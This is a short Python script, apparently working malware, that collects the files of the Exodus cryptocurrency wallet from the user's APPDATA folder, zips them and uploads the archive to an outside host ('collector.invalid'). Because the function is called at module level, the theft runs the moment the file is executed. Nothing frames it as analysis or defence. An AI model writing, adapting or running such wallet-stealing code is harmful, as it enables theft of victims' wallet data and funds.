import os, zipfile, requests
def pack():
    z = zipfile.ZipFile(os.getenv("TEMP") + "\\w.zip", "w")
    base = os.getenv("APPDATA") + "\\Exodus\\exodus.wallet"
    for f in os.listdir(base):
        z.write(base + "\\" + f)
    z.close()
    requests.post("https://collector.invalid/w", files={"file": open(os.getenv("TEMP") + "\\w.zip", "rb")})
pack()
